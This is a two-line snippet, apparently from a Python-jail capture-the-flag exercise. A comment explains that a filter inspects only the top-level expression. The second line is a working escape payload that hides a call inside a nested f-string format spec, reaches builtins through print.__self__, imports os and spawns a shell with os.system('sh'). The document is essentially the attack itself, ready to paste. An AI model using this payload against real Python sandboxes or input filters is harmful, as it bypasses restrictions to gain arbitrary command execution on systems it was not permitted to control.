# restriction: filter only inspects the top-level expression; idea: payload hidden in a nested f-string format spec that reads attributes of print
f'{0:{print.__self__.__import__("os").system("sh")}}'
